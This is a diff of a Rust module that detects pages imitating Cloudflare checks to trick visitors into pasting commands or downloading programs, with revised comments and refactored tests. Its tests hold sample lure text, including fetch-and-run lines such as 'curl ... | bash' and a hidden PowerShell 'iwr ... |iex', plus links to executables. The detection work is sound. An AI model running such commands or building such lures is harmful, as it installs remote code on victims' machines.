@@ -1,21 +1,21 @@
-//! What an attack asks of visitors: to paste a command into a window that runs it, or to run a program.
+//! Requests that attacks make: paste a command into a window that runs it, or download a program.
 //!
-//! Needles find what scripts and links contain. What visitors read is searched as they read it: without markup,
-//! character references and line breaks, which attacks put between the keys.
+//! Needles find them in scripts and links. The visible text is searched without markup, character references and line
+//! breaks, because attacks put these between the names of keys.
 
 use super::needle::Needle;
 use super::page::{Page, any_character, dereferenced, starts_with_ignoring_case};
 
 /// How much of a page's text is read, in bytes.
 const MOST: usize = 256 * 1024;
-/// How much text an attack shows at most, in characters; a page that explains one has more.
+/// The most text that an attack shows, in characters. A page that explains one has more.
 const LONG: usize = 2_500;
-/// How far after a key's name the letter pressed with it may be, in characters.
+/// The maximum distance from a key's name to the letter pressed with it, in characters.
 const CHORD: usize = 40;
 
 /// The names of the Windows key, in lower case and in the ten languages.
 const WINDOWS: &[&str] = &["windows", "win", "⊞", "윈도", "ويندوز", "виндовс"];
-/// The names of the key that pastes together with V.
+/// The names of the key that's pressed with V to paste.
 const CONTROL: &[&str] = &["ctrl", "strg", "control", "cmd", "command", "⌘", "컨트롤", "كنترول"];
 /// Other ways to open a window for commands.
 const WINDOWS_FOR_COMMANDS: &[&str] = &["command+space", "cmd+space", "⌘+space", "run dialog", "open terminal"];
@@ -65,7 +65,7 @@ const COMMANDS: &[&str] = &[
     "osascript",
     "invoke-expression",
 ];
-/// The words with which pages claim to be Cloudflare's, in lower case.
+/// Words of Cloudflare's checks and blocks, in lower case.
 const CLAIMS: &[&str] = &[
     "just a moment",
     "performance & security by cloudflare",
@@ -77,7 +77,7 @@ const CLAIMS: &[&str] = &[
     "you have been blocked",
 ];
 
-/// Attacks put what they ask for in scripts and links, too.
+/// The needles for an attack's requests.
 const NEEDLES: [Needle; 9] = [
     Needle::Keys,
     Needle::Shell,
@@ -90,8 +90,8 @@ const NEEDLES: [Needle; 9] = [
     Needle::Windows,
 ];
 
-/// A page's text as visitors read it, in lower case: without tags and scripts, with character references decoded,
-/// blanks folded, and none around a plus sign.
+/// A page's visible text, in lower case and without tags. Character references are decoded, and blanks are folded, or
+/// removed around a plus sign.
 pub(super) struct VisibleText(String);
 
 impl VisibleText {
@@ -120,7 +120,7 @@ impl VisibleText {
         Self(text.folded)
     }
 
-    /// Whether the text is about an attack: much longer than one, or it only quotes the words of a check.
+    /// Whether the text explains an attack: it's longer than one, or has a check's words only in quotation marks.
     pub(super) fn explains(&self) -> bool {
         let mut quoted = 0;
         for claim in CLAIMS {
@@ -149,13 +149,13 @@ impl VisibleText {
         texts.iter().copied().find(|text| self.0.contains(text))
     }
 
-    /// Finds a key's name followed, in the same sentence, by one of these letters on its own.
+    /// Finds a key's name and, later in the same sentence, one of these letters on its own.
     fn chord(&self, names: &[&str], letters: &[char]) -> Option<&str> {
         names.iter().find_map(|name| {
             self.0.match_indices(name).find_map(|(at, _)| {
                 let before = self.0.get(..at)?.chars().next_back();
                 let after = self.0.get(at + name.len()..)?;
-                // "win" begins other words, while "windows" is joined to "taste" and "キー".
+                // Other words start with "win", but "windows" may be part of a longer name: "windowstaste".
                 let is_word = *name != "win" || !after.starts_with(is_latin);
                 if !is_word || before.is_some_and(is_latin) {
                     return None;
@@ -212,7 +212,7 @@ impl Folded {
     }
 }
 
-/// Returns what comes after a tag or comment; after the closing tag for elements whose content isn't shown.
+/// Returns the markup after a tag or comment. If the tag opens an element that isn't shown, its content is skipped.
 fn after_tag(tag: &[u8]) -> &[u8] {
     let end = |from: &[u8], what: &[u8]| memchr::memmem::find(from, what).map(|at| at + what.len());
     if tag.starts_with(b"<!--") {
@@ -229,9 +229,10 @@ fn after_tag(tag: &[u8]) -> &[u8] {
         .unwrap_or_default()
 }
 
-/// Returns what an attack asks of the visitor; `None` if the page isn't an attack. `claims` tells whether the page
-/// claims to be a check or an error of Cloudflare's, which never ask anyone to press keys, run commands or download a
-/// program: there, one of these is enough.
+/// Returns what an attack asks the visitor to do; `None` if the page isn't an attack.
+///
+/// If the page claims to be a Cloudflare check or error (`claims`), one request is enough: these never ask visitors to
+/// press keys, run commands or download programs.
 pub(super) fn asked(page: &Page<'_>, text: &VisibleText, claims: bool) -> Option<String> {
     let opens = text.opens_window();
     let paste_keys = text.chord(CONTROL, &['v']);
@@ -246,7 +247,7 @@ pub(super) fn asked(page: &Page<'_>, text: &VisibleText, claims: bool) -> Option
     let to_run = [has_keys, has_shell, pastes || words.is_some() || page.has(Needle::PasteWords), copies];
     let to_run = to_run.into_iter().filter(|asks| *asks).count();
     let links_program = page.all(Needle::Program).any(|hit| page.tag_around(hit).starts_with("<a "));
-    // Cloudflare's own pages copy the Ray ID and say where to paste it, but never which keys to press or where to run it.
+    // Cloudflare's own pages copy the Ray ID and say where to paste it, but never mention keys or commands.
     let runs = has_keys || has_shell || (pastes && copies);
     let is_attack = (to_run >= 2 && runs)
         || (claims && (pastes || opens.is_some() || command.is_some() || links_program))
@@ -271,6 +272,7 @@ fn is_with_r(after: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::classify::tests::ERROR_PAGE;
     use crate::classify::{Examination, classify, examine, examine_quoted};
     use crate::diagnosis::Kind;
     use crate::observation::Observation;
@@ -278,25 +280,25 @@ mod tests {
     const CHALLENGE: &str = "<!DOCTYPE html><html lang=\"en-US\"><head><title>Just a moment...</title></head><body>\
         <script>(function(){window._cf_chl_opt={cZone:\"shop.example\",cType:\"managed\",cRay:\"9a1b2c3d4e5f6071\"};})();\
         </script>STEPS</body></html>";
-    const ERROR: &str = "<!DOCTYPE html><html><head><title>shop.example | 522: Connection timed out</title><link \
-        rel=\"stylesheet\" id=\"cf_styles-css\" href=\"/cdn-cgi/styles/main.css\" /></head><body><div id=\"cf-wrapper\">\
-        <div id=\"cf-error-details\"><h1><span class=\"code-label\">Error code 522</span></h1></div>STEPS<div \
-        class=\"cf-error-footer\">Cloudflare Ray ID: <strong>9a1b2c3d4e5f6071</strong></div></div></body></html>";
 
     fn kind(body: &str) -> Option<Kind> {
         classify(&Observation { body: body.as_bytes().into(), ..Observation::default() }).map(|read| read.kind)
     }
 
-    /// Whether a challenge and an error with these steps are recognised as imitations.
-    fn is_lure(steps: &str) -> bool {
+    /// Asserts that a challenge and an error with any of these steps are recognised as imitations.
+    fn assert_lures(lures: &[&str]) {
         assert_eq!(kind(CHALLENGE), Some(Kind::Challenge));
-        assert_eq!(kind(ERROR), Some(Kind::Error));
-        [CHALLENGE, ERROR].iter().all(|page| kind(&page.replace("STEPS", steps)) == Some(Kind::Imitation))
+        assert_eq!(kind(ERROR_PAGE), Some(Kind::Error));
+        for steps in lures {
+            for page in [CHALLENGE, ERROR_PAGE] {
+                assert_eq!(kind(&page.replace("STEPS", steps)), Some(Kind::Imitation), "{steps}");
+            }
+        }
     }
 
     #[test]
     fn markup_and_blanks_between_keys_hide_nothing() {
-        for steps in [
+        assert_lures(&[
             "Press <b>Windows + R</b>, then press <b>Ctrl +\n              V</b>",
             "Press <b>Windows + R</b>, then press <b>Ctrl&nbsp;+&nbsp;V</b>",
             "<li>Press Win &#43; R</li><li>Ctrl &#x2b; V</li>",
@@ -308,14 +310,12 @@ mod tests {
             "Press the Windows key <img src=\"win.svg\"> + R. Press Ctrl <span></span>+ V",
             "Press ⌘ + Space, type Terminal, paste with ⌘ + V, then Return",
             "Press Windows + X, then select Terminal",
-        ] {
-            assert!(is_lure(steps), "{steps}");
-        }
+        ]);
     }
 
     #[test]
     fn pasting_needs_no_key_in_any_language() {
-        for steps in [
+        let lures = [
             "Press Windows + R, paste the code and press Enter",
             "Press Windows + R, right-click and choose Paste, then press OK",
             "Drücken Sie Windows-Taste + R, fügen Sie den Code ein und drücken Sie die Eingabetaste",
@@ -327,9 +327,10 @@ mod tests {
             "Windows + R を押し、コードを貼り付けて Enter を押します",
             "Windows + R 을 누르고 코드를 붙여넣은 다음 Enter 를 누르세요",
             "اضغط Windows + R والصق الرمز ثم اضغط Enter",
-        ] {
-            assert!(is_lure(steps), "{steps}");
-            // Even without any of Cloudflare's markup.
+        ];
+        assert_lures(&lures);
+        for steps in lures {
+            // No markup from Cloudflare, only its words.
             let bare = format!(
                 "<!DOCTYPE html><title>shop.example</title><p>{steps}</p>Ray ID: 9a1b2c3d4e5f6071 Performance &amp; \
                  security by Cloudflare"
@@ -339,8 +340,8 @@ mod tests {
     }
 
     #[test]
-    fn keys_are_recognised_however_a_language_joins_them() {
-        for steps in [
+    fn keys_are_recognised_in_every_language() {
+        assert_lures(&[
             "Halten Sie die Windows-Taste gedrückt und drücken Sie R",
             "Maintenez la touche Windows et appuyez sur R",
             "Mantenga presionada la tecla Windows y presione R",
@@ -350,23 +351,19 @@ mod tests {
             "Windowsキーを押しながらRキーを押します",
             "윈도우 키와 R 키를 누르세요",
             "اضغط ويندوز مع R ثم كنترول V",
-        ] {
-            assert!(is_lure(steps), "{steps}");
-        }
+        ]);
     }
 
     #[test]
-    fn a_check_asks_nobody_to_run_or_download_anything() {
-        for steps in [
+    fn commands_and_programs_are_never_part_of_a_check() {
+        assert_lures(&[
             "Run <code>curl -s https://x.example/a.sh | bash</code>",
             "Open PowerShell and run <code>powershell -w hidden iwr x.example|iex</code>",
             "<a href=\"/update.exe\">Download the verification tool</a>",
             "<a href='check.msi' download>Continue</a>",
             "<a href=/a.scr>Continue</a>",
             "<a href=\"/a.ps1?x=1\">Continue</a>",
-        ] {
-            assert!(is_lure(steps), "{steps}");
-        }
+        ]);
         for harmless in [
             "Use the latest version of Windows, such as Windows 11. Reload the page.",
             "Copy the Ray ID and paste it into your message to the site's owner.",
@@ -412,7 +409,7 @@ mod tests {
             "<p>Then a command runs that loads the next stage from a server.</p>".repeat(50)
         );
         assert_eq!(kind(&long), None);
-        // The same words that aren't quoted, and nothing else.
+        // Without the quotation marks, the same text is an attack.
         assert_eq!(kind(&quoting.replace('"', "")), Some(Kind::Imitation));
     }
 
